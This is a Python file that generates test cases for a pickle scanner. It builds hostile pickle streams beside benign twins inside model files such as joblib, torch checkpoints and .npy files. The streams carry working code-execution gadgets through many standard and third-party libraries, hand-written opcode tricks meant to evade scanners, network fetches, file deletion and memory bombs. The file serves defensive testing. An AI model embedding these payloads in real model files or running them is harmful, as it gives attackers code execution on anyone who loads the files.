"""Pickles: functions nobody lists, chains, opcodes, streams, holders. Each hostile stream is run under an audit hook by check.py."""
import base64, collections, datetime, decimal, fractions, functools, gzip, bz2, lzma, io, json, pickle, struct, types, zlib, zipfile
import numpy
from base import *

CODE = f"__import__('os').system('{SAY}')"
HERE = "/nonexistent/jingwei"


class C(Call):
    """A call whose result may be called again."""
    def __call__(self, *a): raise TypeError


def method(target, name, *args): return C(C("operator:methodcaller", name, *args), target)
def kw(function, **named): return functools.partial(G(function) if isinstance(function, str) else function, **named)


PLAIN = [lambda: datetime.date(2026, 7, 1), lambda: collections.Counter(cat=3, dog=2), lambda: fractions.Fraction(1, 3), lambda: decimal.Decimal("0.85"),
         lambda: numpy.dtype("float32"), lambda: collections.OrderedDict(lr=.01, epochs=3), lambda: numpy.arange(6).reshape(2, 3), lambda: complex(1, 2)]


def held(kind, value, k):
    """The value beside honest contents, in one kind of holder."""
    meta = {"name": f"demo-{k}", "classes": ["cat", "dog"], "accuracy": .5 + k % 40 / 100}
    match kind:
        case "raw": return {"model.pkl": dumps({"model": estimator(k), "meta": meta, "extra": value})}
        case "raw2": return {"scaler.pickle": dumps([meta, estimator(k), value], 2)}
        case "raw5": return {"vectorizer.pkl": dumps((value, estimator(k), meta), 5)}
        case "joblib": return {"model.joblib": joblib_dump({"model": estimator(k), "extra": value})}
        case "joblibz": return {"pipeline.joblib.z": joblib_dump([estimator(k), value], ("zlib", 3))}
        case "torch": return {"pytorch_model.bin": checkpoint(value, k)}
        case "torchroot": return {"last.ckpt": checkpoint(value, k, root="last")}
        case "legacy":
            tensors, data = weights(k)
            return {"model.pth": legacy({"state_dict": tensors, "extra": value}, data)}
        case "gz": return {"model.pkl.gz": gzip.compress(dumps({"model": estimator(k), "extra": value}), mtime=0)}
        case "npy":
            head = b"{'descr': '|O', 'fortran_order': False, 'shape': (3,), }"
            head += b" " * (-(len(head) + 11) % 64) + b"\n"
            array = numpy.empty(3, dtype=object)
            array[:] = ["cat", value, "dog"]
            return {"labels.npy": b"\x93NUMPY\x01\0" + struct.pack("<H", len(head)) + head + dumps(array, 3)}
        case "state":  # an estimator's own attribute
            made = estimator(k)
            made.callback_ = value
            return {"classifier.pkl": dumps(made)}
        case "frame":
            import pandas
            frame = pandas.DataFrame({"x": [1., 2.], "y": [3., 4.]})
            frame.attrs["source"] = value
            return {"features.pkl": dumps(frame)}


KINDS = ["raw", "torch", "joblib", "raw2", "torchroot", "state", "raw5", "legacy", "joblibz", "npy", "gz", "frame"]
COUNT = [0]


def gadget(name, reason, build, expected="block", kind=None, good=None):
    k = COUNT[0]
    COUNT[0] += 1
    kind = kind or KINDS[k % len(KINDS)]
    add(name, expected, reason, held(kind, build(), k), held(kind, (good or PLAIN[k % len(PLAIN)])(), k))


def table(group, rows):
    for technique, reason, build, *more in rows: gadget(f"{group}/{technique}/1", reason, build, *more)


LOGCONF = "[loggers]\nkeys=root\n[handlers]\nkeys=h\n[formatters]\nkeys=\n[logger_root]\nhandlers=h\n[handler_h]\nclass=StreamHandler\nargs=(%s,)\n"


def annotated(text):
    made = functools.partial(G("builtins:dict"))
    made.__annotations__ = {"value": text}
    return made


table("stdlib-code", [
    ("typing-hints", "typing.get_type_hints evaluates an annotation's text", lambda: C("typing:get_type_hints", types.SimpleNamespace(__annotations__={"value": CODE}))),
    ("inspect-annotations", "inspect.get_annotations with eval_str evaluates text", lambda: C(kw("inspect:get_annotations", eval_str=True), annotated(CODE))),
    ("logging-file-text", "logging.config.fileConfig evaluates args of a configuration held in a StringIO", lambda: C("logging.config:fileConfig", io.StringIO(LOGCONF % CODE))),
    ("entry-point", "importlib.metadata.EntryPoint.load fetches os.system by text", lambda: C(method(C("importlib.metadata:EntryPoint", "run", "os:system", "console_scripts"), "load"), SAY)),
    ("browser-process", "webbrowser.BackgroundBrowser starts a process on open", lambda: method(C("webbrowser:BackgroundBrowser", ["/bin/sh", "-c", SAY]), "open", HOST)),
    ("subinterpreter", "a sub-interpreter runs text", lambda: C("_xxsubinterpreters:run_string", C("_xxsubinterpreters:create"), f"import os; os.system('{SAY}')")),
    ("pip-runner", "ensurepip._run_pip starts pip in a process", lambda: C("ensurepip:_run_pip", ["download", HOST])),
    ("doctest-file", "doctest.testfile runs the examples of a file", lambda: C("doctest:testfile", GONE, False)),
    ("spawn-main", "multiprocessing.spawn runs a main file by its path", lambda: C("multiprocessing.spawn:_fixup_main_from_path", GONE)),
    ("coverage-results", "trace.CoverageResults unpickles a file", lambda: C("trace:CoverageResults", None, None, GONE)),
    ("site-pth", "site.addpackage runs the import lines of a .pth file", lambda: C("site:addpackage", "/nonexistent", "jingwei.pth", None)),
    ("thread-target", "a Thread's run calls what it was given", lambda: method(C("threading:Thread", None, C("werkzeug.utils:import_string", "os:system"), None, (SAY,)), "run")),
])
table("stdlib-import", [
    ("warning-category", "warnings._getcategory imports a module by its text", lambda: C("warnings:_getcategory", "jingwei_missing.Category")),
    ("test-loader", "unittest's loader imports a module by its text", lambda: method(C("unittest.loader:TestLoader"), "loadTestsFromName", "jingwei_missing.tests")),
    ("sax-parser", "xml.sax.make_parser imports a module by its text", lambda: C("xml.sax:make_parser", ["jingwei_missing"])),
])
table("stdlib-files", [
    ("path-method", "pathlib.Path.write_text writes a file", lambda: C("pathlib:Path.write_text", C("pathlib:PosixPath", GONE), SAY)),
    ("maildir", "mailbox.Maildir makes folders", lambda: C("mailbox:Maildir", GONE)),
    ("byte-compile", "py_compile.compile reads one file and writes another", lambda: C("py_compile:compile", GONE, GONE + ".pyc")),
    ("netrc", "netrc.netrc reads a file of passwords", lambda: C("netrc:netrc", GONE)),
])
table("stdlib-network", [
    ("rpc-proxy", "an XML-RPC proxy's method sends a request", lambda: method(C("xmlrpc.client:ServerProxy", HOST), "jingwei")),
    ("robots", "RobotFileParser.read fetches an address", lambda: method(C("urllib.robotparser:RobotFileParser", HOST), "read")),
    ("listening-server", "wsgiref's make_server opens a listening port", lambda: C("wsgiref.simple_server:make_server", "127.0.0.1", 0, None)),
])
import marshal
MARSHALLED = marshal.dumps(compile(CODE, "<lambda>", "eval"))


def FRAME():
    import pandas
    return pandas.DataFrame({"x": [1., 2.]})


ARRAY = lambda: numpy.arange(4.)
table("package-code", [
    ("numpy-measure", "numpy.testing.measure executes text", lambda: C("numpy.testing:measure", CODE, 1)),
    ("sklearn-script", "a test helper of scikit-learn runs a script in a process", lambda: C("sklearn.utils._testing:assert_run_python_script_without_output", f"import os; os.system('{SAY}')")),
    ("sympy-simplify", "sympy.simplify evaluates text", lambda: C("sympy.simplify.simplify:simplify", CODE)),
    ("sympy-lambdify", "lambdify compiles text and runs it", lambda: C(C("sympy.utilities.lambdify:lambdify", ["x"], CODE), 1)),
    ("keras-func-load", "keras rebuilds a function from marshalled code", lambda: C("keras.src.utils.python_utils:func_load", MARSHALLED)),
    ("eval-formatter", "IPython's EvalFormatter evaluates a field", lambda: method(C("IPython.utils.text:EvalFormatter"), "format", "{__import__('os').system('" + SAY + "')}")),
    ("mako-module", "a Mako template runs its module block when made", lambda: C("mako.template:Template", "<%! import os; os.system('" + SAY + "') %>")),
    ("werkzeug-console", "Werkzeug's debug console evaluates text", lambda: method(C("werkzeug.debug.console:Console"), "eval", CODE)),
    ("attrs-compile", "attrs compiles and executes a script", lambda: C("attr._make:_linecache_and_compile", CODE, "<attrs>", {})),
    ("cffi-execfile", "cffi.setuptools_ext.execfile runs a file", lambda: C("cffi.setuptools_ext:execfile", GONE, {})),
    ("gopen-pipe", "webdataset's gopen starts a shell for pipe:", lambda: C("webdataset.gopen:gopen", "pipe:" + SAY, "rb")),
])
table("package-import", [
    ("werkzeug-string", "werkzeug.utils.import_string gives os.system", lambda: C(C("werkzeug.utils:import_string", "os:system"), SAY)),
    ("fsspec-json", "fsspec builds a filesystem of a class named in JSON", lambda: C("fsspec.spec:AbstractFileSystem.from_json", json.dumps({"cls": "jingwei_missing.Files", "protocol": "x", "args": []}))),
    ("distlib-resolve", "pip's distlib resolves os:system", lambda: C(C("pip._vendor.distlib.util:resolve", "os", "system"), SAY)),
    ("jsonpickle-class", "jsonpickle's loadclass imports by text", lambda: C("jsonpickle.unpickler:loadclass", "jingwei_missing.Thing")),
    ("jax-plugin", "jaxlib loads a native plug-in from a path", lambda: C("jaxlib._jax:load_pjrt_plugin", "jingwei", GONE + ".so", None)),
])
table("package-files", [
    ("numpy-address", "numpy.genfromtxt fetches an address", lambda: C("numpy:genfromtxt", HOST + ".csv")),
    ("numpy-tofile", "an array's tofile writes a file", lambda: method(ARRAY(), "tofile", GONE)),
    ("sklearn-clear", "clear_data_home deletes a folder", lambda: C("sklearn.datasets:clear_data_home", GONE)),
    ("pandas-frame-write", "DataFrame.to_csv writes a file", lambda: method(FRAME(), "to_csv", GONE)),
    ("dill-handle", "dill reopens a file by its name", lambda: C("dill._dill:_create_filehandle", GONE, "w", 0, False, open, False, 0, "")),
    ("nltk-address", "nltk.data.load fetches and unpickles", lambda: C("nltk.data:load", "file:///nonexistent/jingwei.pickle")),
])

# Chains of harmless-looking calls: the function is found by a library's own look-up, and called by something else

def found(): return C("werkzeug.utils:import_string", "os:system")


table("chains", [
    ("missing-key", "a defaultdict's factory is called by a look-up", lambda: C("operator:getitem", C("collections:defaultdict", C("functools:partial", found(), SAY)), "x")),
    ("deque-of-map", "a deque consumes a starmap of calls", lambda: C("collections:deque", C("itertools:starmap", found(), [(SAY,)]))),
    ("numpy-ufunc", "numpy.frompyfunc makes a ufunc of a looked-up function", lambda: C(C("numpy:frompyfunc", found(), 1, 1), SAY)),
    ("copy-reconstruct", "copy._reconstruct calls a function with arguments", lambda: C("copy:_reconstruct", None, None, found(), (SAY,))),
    ("finalizer", "weakref.finalize calls at the end", lambda: C("weakref:finalize", C("werkzeug.utils:import_string", "collections:Counter"), found(), SAY)),
    ("registered-type", "copyreg.pickle sets a reducer for everybody", lambda: C("copyreg:pickle", C("werkzeug.utils:import_string", "collections:Counter"), found())),
])


# Opcodes by hand; the twin calls something plain in the same way

def stream(name, reason, make, evil, good, expected="block", file="model.pkl"):
    pair(name, expected, reason, lambda part: {file: make(part)}, evil, good)


SYSTEM, COUNTER = ("posix", "system"), ("collections", "Counter")
P4 = b"\x80\x04"
stream("opcodes/dotted-private/1", "the function is an attribute of a harmless module's private import", lambda n: op(P4, b"}", "model", n[0], n[1], b"\x93", SAY, b"\x85Rs."), ("random", "_os.system"), ("collections", "OrderedDict.fromkeys"))
stream("opcodes/old-name-process/1", "a Python 2 name that is mapped to subprocess", lambda n: b"\x80\x02c" + n + b"\nq\0X\x0c\0\0\0" + SAY.encode() + b"q\1\x85q\2Rq\3.", b"commands\ngetstatusoutput", b"UserDict\nUserDict" if 0 else b"__builtin__\nset")
stream("opcodes/escaped-text/1", "names written with \\u escapes in protocol 0, put together by STACK_GLOBAL", lambda n: b"".join(b"V" + "".join(f"\\u{ord(c):04x}" for c in t).encode() + b"\n" for t in n) + b"\x93(V" + SAY.encode() + b"\ntR.", SYSTEM, COUNTER)
stream("opcodes/own-extension/1", "the stream registers an extension code and uses it", lambda n: op(P4, "copyreg", "add_extension", b"\x93", n[0], n[1], b"K\x4d\x87R0\x82\x4d", SAY, b"\x85R.") if n is SYSTEM else op(P4, n[0], n[1], b"\x93", SAY, b"\x85R."), SYSTEM, COUNTER)
stream("opcodes/first-opcode/1", "integers pushed and popped before the first opcode a reader looks for", lambda n: b"I7\n0N0I01\n0" * 40 + b"c" + ".".join(n[:1]).encode() + b"\n" + n[1].encode() + b"\n(V" + SAY.encode() + b"\ntR.", SYSTEM, COUNTER)
stream("opcodes/class-patched/1", "BUILD sets a method of json.JSONDecoder for later", lambda n: op(P4, "json.decoder", "JSONDecoder", b"\x93", *((b"N}", "decode", *n, b"\x93s\x86b") if n[1] == "system" else (b")\x81",)), b"."), SYSTEM, COUNTER)
stream("opcodes/module-patched/1", "BUILD changes a module's dictionary", lambda n: op(P4, "json", "decoder", b"\x93", b"}", "scanstring", *n, b"\x93sb.") if n is SYSTEM else op(P4, "collections", "OrderedDict", b"\x93)R}", "note", *n, b"\x93sb."), SYSTEM, COUNTER)
stream("opcodes/memo-overwrite/1", "a memo entry is overwritten between its look-up and its use", lambda n: op(P4, "collections", b"\x94", "Counter", b"\x94", n[0], b"q\x00", n[1], b"q\x01", b"0000h\x00h\x01\x93", SAY, b"\x85R."), SYSTEM, COUNTER)
stream("opcodes/setitem-call/1", "SETITEM on an object whose __setitem__ is a function", lambda n: op(P4, "builtins", "type", b"\x93", "Config", b")}", "append", *n, b"\x93s\x87R)\x81(", SAY, b"e.") if n is SYSTEM else op(P4, "collections", "deque", b"\x93)R(", SAY, b"e."), SYSTEM, COUNTER)

# Streams behind other things
HONEST = dumps({"model": estimator(1), "classes": ["cat", "dog"]})
BAD, FINE = dumps(C("posix:system", SAY)), dumps(collections.Counter(cat=1))
stream("streams/many-honest/1", "the 40th pickle of a file that is read in a loop", lambda p: HONEST + dumps({"step": 1}) * 38 + p, BAD, FINE, file="records.pkl")
stream("streams/length-framed/1", "length-prefixed pickles, as record writers make", lambda p: b"".join(struct.pack("<I", len(x)) + x for x in (HONEST, dumps([1, 2]), p)), BAD, FINE, file="events.pkl")
stream("streams/base64-lines/1", "a file of one base64 pickle a line", lambda p: b"".join(base64.b64encode(x) + b"\n" for x in (dumps({"id": 1, "label": "cat"}), p, dumps({"id": 2, "label": "dog"}))), BAD, FINE, file="samples.pkl.b64")
stream("streams/object-array/1", "an object array inside a joblib file", lambda p: joblib_dump({"model": estimator(0), "labels": numpy.array(["cat", p, "dog", None], dtype=object)}), C("posix:system", SAY), "bird", file="labels.joblib")
def zstd(data):
    from backports import zstd as z
    return z.compress(data)


stream("streams/zstd-skippable/1", "a pickle in zstd behind a skippable frame", lambda p: struct.pack("<II", 0x184D2A53, 24) + b"jingwei-index-of-blocks." + zstd(p), dumps([estimator(2), C("posix:system", SAY)]), dumps([estimator(2), collections.Counter(cat=2)]), file="model.pkl.zst")
ENV = lambda p: {"model/vectorizer.pkl": HONEST, "model/weights.npz": zipped([("a.npy", npy(numpy.arange(3.))), ("b.npy", p)])}
def npy(array):
    out = io.BytesIO()
    numpy.save(out, array, allow_pickle=True)
    return out.getvalue()


pair("streams/npz-member/1", "block", "one object array among the plain ones of an .npz", ENV, npy(numpy.array([1, 2.])).replace(b"'<f8'", b"'|O' ")[:128] + BAD, npy(numpy.array([1, 2.])))

# Bombs in pickles
table("pickle-bombs", [
    ("fraction-exponent", "a Fraction of a billion digits", lambda: C("fractions:Fraction", "1e3000000000"), "block", "raw"),
    ("repeat-text", "text repeated to a tebibyte", lambda: C("operator:mul", "jingwei", 1 << 38), "block", "raw2"),
    ("regex-backtracking", "a pattern that backtracks without end is matched", lambda: C("re:fullmatch", "(a+)+b", "a" * 60), "block", "raw5"),
])
stream("pickle-bombs/memo-index/1", "a memo index of two billion makes the reader's table huge", lambda n: P4 + b"]r" + struct.pack("<I", n) + b".", 0x7FFFFFF0, 1)
def laughs(n): return op(P4, "builtins", "repr" if n > 9 else "len", b"\x93", b"](K\1K\2K\3e\x94" + b"0" + b"".join(b"](h" + bytes([i]) + b"h" + bytes([i]) + b"e\x940" for i in range(n)) + b"h" + bytes([n]) + b"\x85R.")


stream("pickle-bombs/shared-lists/1", "lists of lists that are gigabytes when hashed or printed", laughs, 60, 2)

# What a person should look at
table("pickle-review", [
    ("unknown-package", "a class of a package that nobody knows", lambda: obj("acme_vision.nets.blocks:WideBlock", width=64, depth=3), "review"),
    ("unknown-function", "a call of an unknown package's function", lambda: C("acme_audio.io:make_frontend", {"rate": 16000}), "review"),
    ("recursion-limit", "the reader's recursion limit is changed", lambda: C("sys:setrecursionlimit", 1500), "review"),
    ("quiet-log", "the reader's log is switched off", lambda: C("logging:disable", 50), "review"),
    ("socket-timeout", "the reader's default time-out is changed", lambda: C("socket:setdefaulttimeout", 600.), "review"),
    ("whole-module", "a checkpoint holds a whole model of the repository's own class", lambda: obj("models.yolo:DetectionModel", stride=32, names=["cat", "dog"]), "review", "torch"),
    ("test-module", "a class of a package's test folder", lambda: obj("acme_vision.tests.helpers:FakeNet", width=64), "review"),
])


# Functions by value
def plain_function(source):
    made = types.FunctionType(compile(source, "<demo>", "exec").co_consts[0], {"__builtins__": __builtins__}, "post")
    made.__module__ = "__main__"
    made.__qualname__ = "post"
    return made


def by_value(library, source):
    import importlib
    post = plain_function(source)
    return importlib.import_module(library).dumps({"model": estimator(2), "post": type("Run", (), {"__reduce__": lambda self: (post, (1,))})() if source else None}, protocol=4)


for library in ("cloudpickle", "dill"):
    add(f"by-value/{library}-called/1", "block", f"{library} rebuilds a function from code and calls it", {"post.pkl": by_value(library, f"def post(x):\n    return __import__('os').system('{SAY}')\n")}, {"post.pkl": __import__(library).dumps({"model": estimator(2), "post": "softmax"}, protocol=4)})
